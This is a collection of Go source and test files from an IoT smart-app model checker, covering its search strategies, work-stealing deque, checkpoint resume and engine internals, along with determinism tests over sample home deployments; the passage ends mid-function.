			if res.MaxDepthReached != 8 {
				t.Errorf("workers=%d run=%d: MaxDepthReached=%d, want the deepest minimal depth 8",
					workers, run, res.MaxDepthReached)
			}
			if res.StatesMatched != bfs.StatesMatched {
				t.Errorf("workers=%d run=%d: matched %d, reference %d", workers, run, res.StatesMatched, bfs.StatesMatched)
			}
		}
	}

	// With the bound below the minimal-depth diameter, clipping is real
	// and must be reported — again deterministically.
	for _, workers := range []int{1, 4} {
		for run := 0; run < 5; run++ {
			res := Run(sys, Options{MaxDepth: 5, Strategy: StrategySteal, Workers: workers})
			if !res.Truncated {
				t.Errorf("workers=%d run=%d: bound 5 clips the A arm but Truncated not set", workers, run)
			}
			if res.MaxDepthReached > 5 {
				t.Errorf("workers=%d run=%d: MaxDepthReached=%d exceeds the bound", workers, run, res.MaxDepthReached)
			}
		}
	}
}
