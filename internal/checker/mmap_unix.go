//go:build unix

package checker

import (
	"os"
	"syscall"
	"unsafe"
)

// mapFile memory-maps size bytes of f read-write and shared, so the
// tiered store's filter and disk-tier tables live in the page cache
// instead of the Go heap. The returned unmap releases the mapping.
func mapFile(f *os.File, size int) ([]byte, func() error, error) {
	data, err := syscall.Mmap(int(f.Fd()), 0, size,
		syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return nil, nil, err
	}
	return data, func() error { return syscall.Munmap(data) }, nil
}

// bytesToWords views an 8-byte-aligned mmap region as []uint64 (mmap
// returns page-aligned memory, so the alignment always holds).
func bytesToWords(b []byte) []uint64 {
	return unsafe.Slice((*uint64)(unsafe.Pointer(&b[0])), len(b)/8)
}
