package checker

import (
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
)

// TestDequeOwnerOrder: the owner sees LIFO order, across ring growth.
func TestDequeOwnerOrder(t *testing.T) {
	d := newWSDeque()
	n := wsInitialCap*2 + 17 // force two growths
	entries := make([]*stealEntry, n)
	for i := 0; i < n; i++ {
		entries[i] = &stealEntry{d: digest{h1: uint64(i)}}
		d.push(entries[i])
	}
	if got := d.size(); got != int64(n) {
		t.Fatalf("size=%d want %d", got, n)
	}
	for i := n - 1; i >= 0; i-- {
		e := d.pop()
		if e != entries[i] {
			t.Fatalf("pop %d: got %v want depth %d", n-1-i, e, i)
		}
	}
	if e := d.pop(); e != nil {
		t.Fatalf("pop on empty deque returned %v", e)
	}
}

// TestDequeStealOrder: thieves see FIFO order — the oldest entry first.
func TestDequeStealOrder(t *testing.T) {
	d := newWSDeque()
	entries := make([]*stealEntry, 10)
	for i := range entries {
		entries[i] = &stealEntry{d: digest{h1: uint64(i)}}
		d.push(entries[i])
	}
	for i := 0; i < 5; i++ {
		e, _ := d.steal()
		if e != entries[i] {
			t.Fatalf("steal %d: got depth %v want %d", i, e, i)
		}
	}
	// Owner keeps LIFO on the remainder.
	for i := 9; i >= 5; i-- {
		if e := d.pop(); e != entries[i] {
			t.Fatalf("pop after steals: got %v want depth %d", e, i)
		}
	}
}

// TestDequeConcurrentStress: one owner pushing and popping against
// several thieves; every entry must be consumed exactly once. Run with
// -race this validates the memory-model usage of the Chase–Lev
// implementation.
func TestDequeConcurrentStress(t *testing.T) {
	const total = 20000
	thieves := runtime.GOMAXPROCS(0) + 2

	d := newWSDeque()
	var consumed [total]atomic.Int32
	var taken atomic.Int64
	var done atomic.Bool

	consume := func(e *stealEntry) {
		if e == nil {
			return
		}
		consumed[e.d.h1].Add(1)
		taken.Add(1)
	}

	var wg sync.WaitGroup
	for i := 0; i < thieves; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for !done.Load() {
				e, retry := d.steal()
				consume(e)
				if e == nil && !retry {
					runtime.Gosched()
				}
			}
			// Final drain so nothing is stranded between done and exit.
			for {
				e, retry := d.steal()
				if e == nil && !retry {
					return
				}
				consume(e)
			}
		}()
	}

	// Owner: pushes in bursts, pops between bursts (mixed LIFO traffic).
	for i := 0; i < total; i++ {
		d.push(&stealEntry{d: digest{h1: uint64(i)}})
		if i%7 == 0 {
			consume(d.pop())
		}
	}
	for {
		e := d.pop()
		if e == nil {
			break
		}
		consume(e)
	}
	done.Store(true)
	wg.Wait()

	if got := taken.Load(); got != total {
		t.Fatalf("consumed %d entries, want %d", got, total)
	}
	for i := range consumed {
		if n := consumed[i].Load(); n != 1 {
			t.Fatalf("entry %d consumed %d times", i, n)
		}
	}
}
