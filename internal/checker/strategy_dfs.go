package checker

// sequentialDFS is the default strategy: a single-goroutine iterative
// depth-first search that threads the counter-example trail through the
// DFS stack. Exploration order, trails, and table outputs are fully
// deterministic given the system's Expand order.
type sequentialDFS struct{}

func (sequentialDFS) search(e *engine) {
	init, _ := e.visitInitial()
	if e.limitHit() {
		e.truncated.Store(true)
		return
	}

	type frame struct {
		state State
		succs []Transition
		next  int
	}
	var trail []TrailStep
	bufp := e.getBuf()
	defer e.putBuf(bufp)
	buf := *bufp
	defer func() { *bufp = buf }()

	var succs []Transition
	succs, buf = e.expand(init, buf, true)
	stack := []frame{{state: init, succs: succs}}

	for len(stack) > 0 {
		if e.limitHit() {
			e.truncated.Store(true)
			break
		}
		top := &stack[len(stack)-1]
		if top.next >= len(top.succs) || len(stack) > e.opts.MaxDepth {
			if len(stack) > e.opts.MaxDepth {
				e.truncated.Store(true)
				if e.rec != nil {
					// Depth-clipped successors were cloned but never
					// digested or recorded anywhere — hand them back.
					for i := top.next; i < len(top.succs); i++ {
						e.rec.Recycle(top.succs[i].Next)
						top.succs[i].Next = nil
					}
				}
			}
			if e.rec != nil {
				// The popped frame's state is dead: fully expanded, out of
				// the trail window, and recorded trails materialized their
				// replays before this point.
				e.rec.Recycle(top.state)
				top.state = nil
				if e.trec != nil {
					// Every succs entry was explored (child frames pop
					// first), matched, or clipped above; trail steps copy
					// Label/Steps out, so the array is reusable.
					e.trec.RecycleTransitions(top.succs)
					top.succs = nil
				}
			}
			stack = stack[:len(stack)-1]
			if len(trail) > 0 {
				trail = trail[:len(trail)-1]
			}
			continue
		}
		tr := top.succs[top.next]
		top.next++

		depth := len(stack)
		trail = append(trail, TrailStep{Label: tr.Label, Steps: tr.Steps, From: top.state, Key: tr.Key})
		e.noteDepth(depth)
		hit := false
		for _, v := range tr.Violations {
			if e.record(v, trail, depth) && e.limitHit() {
				hit = true
				break
			}
		}
		if !hit {
			for _, v := range e.sys.Inspect(tr.Next) {
				if e.record(v, trail, depth) && e.limitHit() {
					hit = true
					break
				}
			}
		}
		if hit {
			e.truncated.Store(true)
			break
		}

		var d digest
		d, buf = e.digest(tr.Next, buf)
		if e.st.seen(d) {
			e.matched.Add(1)
			trail = trail[:len(trail)-1]
			if e.rec != nil {
				// A duplicate child never enters the stack, the trail, or
				// a recorded violation — its storage is immediately
				// reusable. Duplicates are the bulk of the clones on
				// diamond-heavy state spaces, so this is where the state
				// free-list pays.
				e.rec.Recycle(tr.Next)
				top.succs[top.next-1].Next = nil
			}
			continue
		}
		e.explored.Add(1)
		succs, buf = e.expand(tr.Next, buf, true)
		stack = append(stack, frame{state: tr.Next, succs: succs})
	}
}
