package checker

import "bytes"

// sequentialDFS is the default strategy: a single-goroutine iterative
// depth-first search that threads the counter-example trail through the
// DFS stack. Exploration order, trails, and table outputs are fully
// deterministic given the system's Expand order — which is also what
// makes the search checkpointable: the WAL spills the stack as one
// next-index per frame, and resume rebuilds the identical stack by
// re-expanding along those indices (see wal.go for the durability
// contract).
type sequentialDFS struct{}

// dfsFrame is one stack frame of the iterative DFS. The invariant the
// checkpoint format leans on: for every non-top frame i, the child
// frame i+1 holds succs[next-1].Next.
type dfsFrame struct {
	state State
	succs []Transition
	next  int
}

func (s sequentialDFS) search(e *engine) {
	var trail []TrailStep
	bufp := e.getBuf()
	defer e.putBuf(bufp)
	buf := *bufp
	defer func() { *bufp = buf }()

	var stack []dfsFrame
	if e.wal != nil && e.wal.resumeCk != nil {
		stack, trail, buf = resumeDFS(e, buf)
	}
	if stack == nil {
		init, _ := e.visitInitial()
		if e.limitHit() {
			e.truncated.Store(true)
			return
		}
		var succs []Transition
		succs, buf = e.expand(init, buf, true)
		stack = []dfsFrame{{state: init, succs: succs}}
	}

	for len(stack) > 0 {
		if e.wal != nil {
			// Loop top is the one point where the stack invariant holds
			// for every frame, so it is the only checkpoint site.
			buf = e.wal.maybeCheckpoint(e, stack, buf)
		}
		if e.limitHit() {
			e.truncated.Store(true)
			break
		}
		top := &stack[len(stack)-1]
		if top.next >= len(top.succs) || len(stack) > e.opts.MaxDepth {
			if len(stack) > e.opts.MaxDepth {
				e.truncated.Store(true)
				if e.rec != nil {
					// Depth-clipped successors were cloned but never
					// digested or recorded anywhere — hand them back.
					for i := top.next; i < len(top.succs); i++ {
						e.rec.Recycle(top.succs[i].Next)
						top.succs[i].Next = nil
					}
				}
			}
			if e.rec != nil {
				// The popped frame's state is dead: fully expanded, out of
				// the trail window, and recorded trails materialized their
				// replays before this point.
				e.rec.Recycle(top.state)
				top.state = nil
				if e.trec != nil {
					// Every succs entry was explored (child frames pop
					// first), matched, or clipped above; trail steps copy
					// Label/Steps out, so the array is reusable.
					e.trec.RecycleTransitions(top.succs)
					top.succs = nil
				}
			}
			stack = stack[:len(stack)-1]
			if len(trail) > 0 {
				trail = trail[:len(trail)-1]
			}
			continue
		}
		tr := top.succs[top.next]
		top.next++

		depth := len(stack)
		trail = append(trail, TrailStep{Label: tr.Label, Steps: tr.Steps, From: top.state, Key: tr.Key})
		e.noteDepth(depth)
		hit := false
		for _, v := range tr.Violations {
			if e.record(v, trail, depth) && e.limitHit() {
				hit = true
				break
			}
		}
		if !hit {
			for _, v := range e.sys.Inspect(tr.Next) {
				if e.record(v, trail, depth) && e.limitHit() {
					hit = true
					break
				}
			}
		}
		if hit {
			e.truncated.Store(true)
			break
		}

		var d digest
		d, buf = e.digest(tr.Next, buf)
		if e.st.seen(d) {
			e.matched.Add(1)
			trail = trail[:len(trail)-1]
			if e.rec != nil {
				// A duplicate child never enters the stack, the trail, or
				// a recorded violation — its storage is immediately
				// reusable. Duplicates are the bulk of the clones on
				// diamond-heavy state spaces, so this is where the state
				// free-list pays.
				e.rec.Recycle(tr.Next)
				top.succs[top.next-1].Next = nil
			}
			continue
		}
		e.logVisit(d)
		e.explored.Add(1)
		var succs []Transition
		succs, buf = e.expand(tr.Next, buf, true)
		stack = append(stack, dfsFrame{state: tr.Next, succs: succs})
	}
}

// resumeDFS rebuilds a checkpointed search. The rebuild is pure —
// deterministic re-expansion from the initial state touches neither
// the visited store nor the counters — so a failed integrity check can
// abandon cleanly: the WAL is reset and the caller falls through to a
// fresh search. Only after every frame verifies does the commit phase
// replay the logged visits into the store and restore counters and
// violations.
func resumeDFS(e *engine, buf []byte) ([]dfsFrame, []TrailStep, []byte) {
	w := e.wal
	ck := w.resumeCk
	abandon := func() ([]dfsFrame, []TrailStep, []byte) {
		w.reset(walFingerprint(e.opts))
		return nil, nil, buf
	}
	if len(ck.Frames) == 0 {
		return abandon()
	}

	// Phase 1: rebuild and verify. Each frame's recorded delta must
	// reproduce the re-expanded child's encoding byte for byte —
	// checking both that the model still generates the same graph and
	// that the block codec round-trips.
	init := e.sys.Initial()
	var enc, scratch []byte
	enc = init.Encode(enc)
	if !ck.Frames[0].Full || !bytes.Equal(enc, ck.Frames[0].Delta) {
		return abandon()
	}
	var succs []Transition
	succs, buf = e.expand(init, buf, false)
	stack := make([]dfsFrame, 0, len(ck.Frames))
	stack = append(stack, dfsFrame{state: init, succs: succs, next: ck.Frames[0].Next})
	var trail []TrailStep
	for i := 1; i < len(ck.Frames); i++ {
		parent := &stack[i-1]
		idx := parent.next - 1
		if idx < 0 || idx >= len(parent.succs) {
			return abandon()
		}
		tr := parent.succs[idx]
		fr := ck.Frames[i]
		enc = tr.Next.Encode(enc[:0])
		if fr.Full {
			if !bytes.Equal(enc, fr.Delta) {
				return abandon()
			}
		} else {
			if e.delta == nil {
				return abandon()
			}
			recon, err := e.delta.DeltaApply(parent.state, fr.Delta, scratch[:0])
			if err != nil || !bytes.Equal(recon, enc) {
				return abandon()
			}
			scratch = recon
		}
		trail = append(trail, TrailStep{Label: tr.Label, Steps: tr.Steps, From: parent.state, Key: tr.Key})
		succs, buf = e.expand(tr.Next, buf, false)
		stack = append(stack, dfsFrame{state: tr.Next, succs: succs, next: fr.Next})
	}

	// Phase 2: commit. Replaying the visit log rebuilds the visited
	// store exactly as it stood at the checkpoint (for the tiered store
	// the replay re-runs admission, so spill pressure re-forms
	// naturally); counters and the violation set are restored verbatim.
	for _, d := range w.resumeVisits {
		e.st.seen(d)
	}
	e.explored.Store(ck.Explored)
	e.matched.Store(ck.Matched)
	e.maxDepth.Store(ck.MaxDepth)
	e.porChoices.Store(ck.PORChoices)
	e.porPruned.Store(ck.PORPruned)
	e.porFallback.Store(ck.PORFallback)
	e.faultTrs.Store(ck.FaultTrs)
	for _, v := range ck.Violations {
		f := Found{
			Violation: Violation{Property: v.Property, Detail: v.Detail},
			Depth:     v.Depth,
		}
		for _, st := range v.Trail {
			steps := st.Steps
			if steps == nil {
				steps = []string{}
			}
			f.Trail = append(f.Trail, TrailStep{Label: st.Label, Steps: steps})
		}
		e.found = append(e.found, f)
		e.distinct[v.Property+"\x00"+v.Detail] = true
	}
	e.reserved = len(e.found)
	e.violCount.Store(int64(len(e.found)))

	w.lastCkptExplored = ck.Explored
	w.resumed = true
	w.resumeCk, w.resumeVisits = nil, nil
	return stack, trail, buf
}
