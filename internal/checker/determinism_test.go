package checker_test

import (
	"runtime"
	"sort"
	"testing"

	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
	"iotsan/internal/smartapp"
)

// corpusSystems builds three small corpus deployments spanning the main
// violation classes: an unsafe physical state (Fig. 7's unlocked main
// door while away), heater/AC command conflicts on a shared outlet, and
// repeated lighting commands.
func corpusSystems() map[string]*config.System {
	return map[string]*config.System{
		"alice-home": {
			Name: "alice-home", Modes: []string{"Home", "Away", "Night"}, Mode: "Home",
			Devices: []config.Device{
				{ID: "alicePresence", Label: "Alice's Presence", Model: "Presence Sensor"},
				{ID: "doorLock", Label: "Door Lock", Model: "Smart Lock", Association: "main door"},
			},
			Apps: []config.AppInstance{
				{App: "Auto Mode Change", Bindings: map[string]config.Binding{
					"people":   {DeviceIDs: []string{"alicePresence"}},
					"awayMode": {Value: "Away"},
					"homeMode": {Value: "Home"},
				}},
				{App: "Unlock Door", Bindings: map[string]config.Binding{
					"lock1": {DeviceIDs: []string{"doorLock"}},
				}},
			},
		},
		"thermo": {
			Name: "thermo", Modes: []string{"Home", "Away", "Night"}, Mode: "Home",
			Devices: []config.Device{
				{ID: "tempSensor", Label: "Living Room Temp", Model: "Temperature Sensor"},
				{ID: "heaterOutlet", Label: "Heater Outlet", Model: "Smart Power Outlet", Association: props.RoleHeater},
				{ID: "acOutlet", Label: "AC Outlet", Model: "Smart Power Outlet", Association: props.RoleAC},
			},
			Apps: []config.AppInstance{
				{App: "It's Too Cold", Bindings: map[string]config.Binding{
					"temperatureSensor1": {DeviceIDs: []string{"tempSensor"}},
					"temperature1":       {Value: 75},
					"heaterOutlet":       {DeviceIDs: []string{"heaterOutlet"}},
				}},
				{App: "It's Too Hot", Bindings: map[string]config.Binding{
					"temperatureSensor1": {DeviceIDs: []string{"tempSensor"}},
					"temperature1":       {Value: 75},
					"acOutlet":           {DeviceIDs: []string{"heaterOutlet"}},
				}},
			},
		},
		"lights": {
			Name: "lights", Modes: []string{"Home", "Away", "Night"}, Mode: "Home",
			Devices: []config.Device{
				{ID: "frontContact", Label: "Front Door Contact", Model: "Contact Sensor"},
				{ID: "luxSensor", Label: "Hallway Lux", Model: "Illuminance Sensor"},
				{ID: "hallBulb", Label: "Hall Bulb", Model: "Smart Bulb"},
			},
			Apps: []config.AppInstance{
				{App: "Brighten Dark Places", Bindings: map[string]config.Binding{
					"contact1":   {DeviceIDs: []string{"frontContact"}},
					"luminance1": {DeviceIDs: []string{"luxSensor"}},
					"switches":   {DeviceIDs: []string{"hallBulb"}},
				}},
				{App: "Let There Be Dark!", Bindings: map[string]config.Binding{
					"contact1": {DeviceIDs: []string{"frontContact"}},
					"switches": {DeviceIDs: []string{"hallBulb"}},
				}},
			},
		},
	}
}

func translateInstalled(t *testing.T, sys *config.System) map[string]*ir.App {
	t.Helper()
	out := map[string]*ir.App{}
	for _, inst := range sys.Apps {
		src, ok := corpus.ByName(inst.App)
		if !ok {
			t.Fatalf("unknown corpus app %q", inst.App)
		}
		app, err := smartapp.Translate(src.Groovy)
		if err != nil {
			t.Fatalf("translate %q: %v", inst.App, err)
		}
		out[inst.App] = app
	}
	return out
}

// distinctViolations returns the sorted property+detail keys of a run.
func distinctViolations(res *checker.Result) []string {
	var keys []string
	for _, f := range res.Violations {
		keys = append(keys, f.Property+": "+f.Detail)
	}
	sort.Strings(keys)
	return keys
}

// TestParallelDeterminismOnCorpus: with Workers = GOMAXPROCS the
// parallel strategy reports the identical distinct-violation set (and
// state count) as sequential DFS on three corpus systems.
func TestParallelDeterminismOnCorpus(t *testing.T) {
	const maxEvents = 2
	sawViolation := false
	for name, sys := range corpusSystems() {
		apps := translateInstalled(t, sys)
		invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		m, err := model.New(sys, apps, model.Options{
			MaxEvents:      maxEvents,
			CheckConflicts: true,
			Invariants:     invs,
		})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}

		opts := checker.Options{MaxDepth: maxEvents + 64}
		seq := checker.Run(m.System(), opts)

		opts.Strategy = checker.StrategyParallel
		opts.Workers = runtime.GOMAXPROCS(0)
		par := checker.Run(m.System(), opts)

		if seq.Truncated || par.Truncated {
			t.Fatalf("%s: unexpected truncation (seq=%v par=%v)", name, seq.Truncated, par.Truncated)
		}
		got, want := distinctViolations(par), distinctViolations(seq)
		if len(got) != len(want) {
			t.Errorf("%s: parallel found %d distinct violations, dfs %d\nparallel: %v\ndfs: %v",
				name, len(got), len(want), got, want)
			continue
		}
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("%s: violation sets differ at %d: parallel %q vs dfs %q", name, i, got[i], want[i])
			}
		}
		if par.StatesExplored != seq.StatesExplored {
			t.Errorf("%s: parallel explored %d states, dfs %d", name, par.StatesExplored, seq.StatesExplored)
		}
		if len(want) > 0 {
			sawViolation = true
		}
	}
	if !sawViolation {
		t.Error("no corpus system produced a violation — the determinism check is vacuous")
	}
}
