package checker

import (
	"sync"
	"sync/atomic"
	"time"
)

// strategy is a search algorithm over the engine's shared machinery
// (visited store, hashing, limits, violation recording).
type strategy interface {
	search(e *engine)
}

// engine holds the state shared by all strategies of one verification
// run. Counters are atomic and violation recording is mutex-guarded so
// the same engine serves both the sequential and the parallel strategy.
type engine struct {
	sys   System
	opts  Options
	st    store
	start time.Time

	// replayer is non-nil when the system supports lazy trails; record
	// resolves TrailStep replay handles through it.
	replayer Replayer

	// needH2 is set when the store derives probes from the second hash
	// (bitstate); the exhaustive stores key on h1 alone, so the second
	// hashing pass is skipped on their per-state hot path.
	needH2 bool

	// bufs pools the state-vector encode buffers; workers check one out
	// per expansion batch instead of allocating per state.
	bufs sync.Pool

	explored  atomic.Int64
	matched   atomic.Int64
	maxDepth  atomic.Int64
	violCount atomic.Int64
	truncated atomic.Bool

	mu       sync.Mutex // guards violations + distinct
	distinct map[string]bool
	reserved int // accepted violations (found lags while trails materialize)
	found    []Found
}

func newEngine(sys System, opts Options) *engine {
	rp, _ := sys.(Replayer)
	return &engine{
		sys:      sys,
		replayer: rp,
		opts:     opts,
		st:       newStore(opts, opts.Strategy != StrategyDFS),
		start:    time.Now(),
		needH2:   opts.Store == Bitstate && !opts.NoDedup,
		bufs: sync.Pool{New: func() any {
			b := make([]byte, 0, 512)
			return &b
		}},
		distinct: map[string]bool{},
	}
}

// digest encodes s into buf (reusing its capacity) and returns the
// fingerprint plus the grown buffer. h2 is only computed when the
// store probes with it.
func (e *engine) digest(s State, buf []byte) (digest, []byte) {
	buf = s.Encode(buf[:0])
	d := digest{h1: fnv1a(buf)}
	if e.needH2 {
		d.h2 = hash2(buf)
	}
	return d, buf
}

func (e *engine) getBuf() *[]byte  { return e.bufs.Get().(*[]byte) }
func (e *engine) putBuf(b *[]byte) { e.bufs.Put(b) }

// record registers a violation if its (property, detail) pair is new,
// reporting whether it was recorded. The trail is copied. The
// MaxViolations cap is enforced here, under the lock, so concurrent
// workers can never overshoot it between their own limit checks.
func (e *engine) record(v Violation, trail []TrailStep, depth int) bool {
	key := v.Property + "\x00" + v.Detail
	// Phase 1 under the lock: dedup + reserve a slot against the cap.
	e.mu.Lock()
	if e.distinct[key] ||
		(e.opts.MaxViolations > 0 && e.reserved >= e.opts.MaxViolations) {
		e.mu.Unlock()
		return false
	}
	e.distinct[key] = true
	e.reserved++
	e.mu.Unlock()
	e.violCount.Add(1)

	// Phase 2 outside the lock: materialize the trail (forward replay —
	// potentially a full re-execution per step) without serializing
	// other workers behind it.
	copied := append([]TrailStep(nil), trail...)
	e.materialize(copied)

	e.mu.Lock()
	e.found = append(e.found, Found{
		Violation: v,
		Trail:     copied,
		Depth:     depth,
	})
	e.mu.Unlock()
	return true
}

// materialize resolves lazy trail steps in place by replaying forward:
// the first step carries its source state, each replay returns the
// successor the next step starts from. Steps whose chain is broken (an
// eagerly recorded, keyless step in the middle of a parallel trail)
// degrade to label-only. Runs outside the engine lock, only for
// genuinely new violations — duplicates are rejected before reaching
// it.
func (e *engine) materialize(ts []TrailStep) {
	var cur State
	for i := range ts {
		if ts[i].From != nil {
			cur = ts[i].From
		}
		replayed := false
		if e.replayer != nil && ts[i].Steps == nil && ts[i].Key != 0 && cur != nil {
			label, steps, next := e.replayer.Replay(cur, ts[i].Key)
			if ts[i].Label == "" {
				ts[i].Label = label
			}
			if steps == nil {
				steps = []string{}
			}
			ts[i].Steps = steps
			cur = next
			replayed = true
		}
		if !replayed {
			if ts[i].Steps == nil {
				ts[i].Steps = []string{}
			}
			cur = nil // successor unknown: later keyed steps degrade to labels
		}
		ts[i].From, ts[i].Key = nil, 0
	}
}

// limitHit reports whether a search limit has been reached. Strategies
// must consult it after every recorded violation and explored state —
// not only per iteration — so MaxViolations and Deadline cannot be
// overshot by a whole expansion.
func (e *engine) limitHit() bool {
	if e.opts.Stop != nil && e.opts.Stop.Load() {
		return true
	}
	if e.opts.MaxStates > 0 && int(e.explored.Load()) >= e.opts.MaxStates {
		return true
	}
	if e.opts.Deadline > 0 && time.Since(e.start) > e.opts.Deadline {
		return true
	}
	if e.opts.MaxViolations > 0 && int(e.violCount.Load()) >= e.opts.MaxViolations {
		return true
	}
	return false
}

// noteDepth raises MaxDepthReached to d.
func (e *engine) noteDepth(d int) {
	for {
		cur := e.maxDepth.Load()
		if int64(d) <= cur || e.maxDepth.CompareAndSwap(cur, int64(d)) {
			return
		}
	}
}

// visitInitial stores and inspects the initial state, returning it with
// its digest.
func (e *engine) visitInitial() (State, digest) {
	init := e.sys.Initial()
	buf := e.getBuf()
	d, b := e.digest(init, *buf)
	*buf = b
	e.putBuf(buf)
	e.st.seen(d)
	e.explored.Add(1)
	for _, v := range e.sys.Inspect(init) {
		e.record(v, nil, 0)
	}
	return init, d
}

// finish assembles the Result.
func (e *engine) finish() *Result {
	return &Result{
		Violations:      e.found,
		StatesExplored:  int(e.explored.Load()),
		StatesMatched:   int(e.matched.Load()),
		StatesStored:    e.st.size(),
		MaxDepthReached: int(e.maxDepth.Load()),
		Truncated:       e.truncated.Load(),
		Elapsed:         time.Since(e.start),
	}
}
