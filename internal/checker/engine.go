package checker

import (
	"sync"
	"sync/atomic"
	"time"
)

// strategy is a search algorithm over the engine's shared machinery
// (visited store, hashing, limits, violation recording).
type strategy interface {
	search(e *engine)
}

// engine holds the state shared by all strategies of one verification
// run. Counters are atomic and violation recording is mutex-guarded so
// the same engine serves both the sequential and the parallel strategy.
type engine struct {
	sys   System
	opts  Options
	st    store
	start time.Time

	// replayer is non-nil when the system supports lazy trails; record
	// resolves TrailStep replay handles through it.
	replayer Replayer

	// reducer is non-nil when Options.POR is set and the system supports
	// partial-order reduction; expansions then route through reduce.
	// certified marks reducers that prove their subsets cannot lie on a
	// cycle of the reduced graph, which exempts them from the
	// visited-state proviso.
	reducer   Reducer
	certified bool

	// canon is non-nil when Options.Symmetry is set and the system
	// supports symmetry canonicalization; every visited-store digest is
	// then derived from the canonical encoding (digest is the single
	// funnel, so all strategies and the POR proviso fold identically).
	canon CanonicalEncoder

	// inc is non-nil when the system's states carry an incremental
	// block-hash cache (IncrementalDigester with HasIncremental true);
	// digest then folds cached block hashes instead of encode-and-hash.
	inc IncrementalDigester

	// rec is non-nil when the system recycles dead states; the
	// sequential DFS hands back duplicate children, depth-clipped
	// successors, and popped frames.
	rec StateRecycler

	// trec is non-nil when the system additionally reuses successor
	// slice backing arrays; the sequential DFS returns each frame's
	// fully consumed succs slice on pop.
	trec TransitionRecycler

	// frontierRecycle is set when the frontier strategies (parallel,
	// steal) may recycle dead states and consumed successor slices:
	// rec non-nil and Options.NoEpochReclaim unset. The sequential DFS
	// free-lists are independent of it.
	frontierRecycle bool

	// depthByScan is set by the work-stealing strategy, whose
	// MaxDepthReached comes from the final parent-table depth scan (the
	// order-independent fixpoint); per-expansion noteDepth calls would
	// be overwritten by it, so expandShared skips them.
	depthByScan bool

	// needH2 is set when the store consumes the second hash — bitstate
	// derives probe positions from it, the tiered store records it on
	// disk as a collision diagnostic; the in-memory exhaustive stores
	// key on h1 alone, so the second hashing pass is skipped on their
	// per-state hot path.
	needH2 bool

	// tiered is the store downcast when Options.Store == Tiered, for
	// the spill-hint hook and the per-tier stats in Result.
	tiered *tieredStore

	// delta is non-nil when the system supports block-delta encoding
	// (DeltaCodec); checkpoint frames then spill as (dirty mask, dirty
	// block bytes) against their parent instead of full vectors.
	delta DeltaCodec

	// wal is non-nil when write-ahead checkpointing is armed (DFS with
	// Options.Checkpoint and a StoreDir, no uncertified reducer).
	wal *wal

	// bufs pools the state-vector encode buffers; workers check one out
	// per expansion batch instead of allocating per state.
	bufs sync.Pool

	explored    atomic.Int64
	matched     atomic.Int64
	maxDepth    atomic.Int64
	violCount   atomic.Int64
	truncated   atomic.Bool
	porChoices  atomic.Int64
	porPruned   atomic.Int64
	porFallback atomic.Int64
	faultTrs    atomic.Int64

	mu       sync.Mutex // guards violations + distinct
	distinct map[string]bool
	reserved int // accepted violations (found lags while trails materialize)
	found    []Found
}

func newEngine(sys System, opts Options) *engine {
	rp, _ := sys.(Replayer)
	var rd Reducer
	certified := false
	if opts.POR {
		rd, _ = sys.(Reducer)
		if pc, ok := sys.(ProgressCertifier); ok {
			certified = pc.CertifiesProgress()
		}
	}
	var ce CanonicalEncoder
	if opts.Symmetry {
		ce, _ = sys.(CanonicalEncoder)
		if hs, ok := sys.(interface{ HasSymmetry() bool }); ok && !hs.HasSymmetry() {
			// Canonicalization is the identity (no non-trivial orbits):
			// keep the raw digest path so the strategies retain their
			// exact-duplicate invariants (steal depth relaxation).
			ce = nil
		}
	}
	var inc IncrementalDigester
	if id, ok := sys.(IncrementalDigester); ok && id.HasIncremental() {
		inc = id
	}
	rec, _ := sys.(StateRecycler)
	trec, _ := sys.(TransitionRecycler)
	dc, _ := sys.(DeltaCodec)
	e := &engine{
		sys:       sys,
		replayer:  rp,
		reducer:   rd,
		certified: certified,
		canon:     ce,
		inc:       inc,
		rec:       rec,
		trec:      trec,

		frontierRecycle: rec != nil && !opts.NoEpochReclaim,

		delta: dc,

		opts:   opts,
		st:     newStore(opts, opts.Strategy != StrategyDFS),
		start:  time.Now(),
		needH2: (opts.Store == Bitstate || opts.Store == Tiered) && !opts.NoDedup,
		bufs: sync.Pool{New: func() any {
			b := make([]byte, 0, 512)
			return &b
		}},
		distinct: map[string]bool{},
	}
	e.tiered, _ = e.st.(*tieredStore)
	// Checkpointing is DFS-only (the stack-invariant rebuild is its
	// resume mechanism) and requires deterministic re-expansion: an
	// uncertified reducer's visited-state proviso makes Reduce
	// store-dependent, so a rebuilt stack could diverge from the
	// checkpointed one — the WAL stays unarmed there.
	if opts.Checkpoint && opts.StoreDir != "" && opts.Strategy == StrategyDFS &&
		(e.reducer == nil || e.certified) {
		w, err := newWAL(opts, e.delta != nil)
		if err != nil {
			panic(err)
		}
		e.wal = w
	}
	return e
}

// spillFn returns the reclamation layer's spill hook: retired states'
// digests become preferred eviction candidates of the tiered store
// (eviction ordering follows epoch order under memory pressure). Nil
// without a tiered store, so the frontier strategies pay nothing.
func (e *engine) spillFn() func(digest) {
	if e.tiered == nil {
		return nil
	}
	return e.tiered.spillHint
}

// logVisit appends a newly stored digest to the WAL's pending visit
// batch (flushed with the next checkpoint). DFS-only, so unsynchronised.
func (e *engine) logVisit(d digest) {
	if e.wal != nil {
		e.wal.pending = append(e.wal.pending, d)
	}
}

// digest encodes s into buf (reusing its capacity) and returns the
// fingerprint plus the grown buffer. With symmetry reduction the
// canonical encoding is hashed instead of the raw one — this is the
// single funnel every strategy, the parent-link table, and the POR
// proviso key states through, so switching it folds the whole search
// onto orbit representatives. With an incremental digester the
// fingerprint folds the state's cached block hashes instead, skipping
// the flat re-encode entirely (buf passes through untouched). h2 is
// only computed when the store probes with it.
//
//iotsan:digest-funnel
func (e *engine) digest(s State, buf []byte) (digest, []byte) {
	if e.inc != nil {
		h1, h2 := e.inc.IncrementalDigest(s, e.canon != nil)
		d := digest{h1: h1}
		if e.needH2 {
			d.h2 = h2
		}
		return d, buf
	}
	if e.canon != nil {
		buf = e.canon.CanonicalEncode(s, buf[:0])
	} else {
		buf = s.Encode(buf[:0])
	}
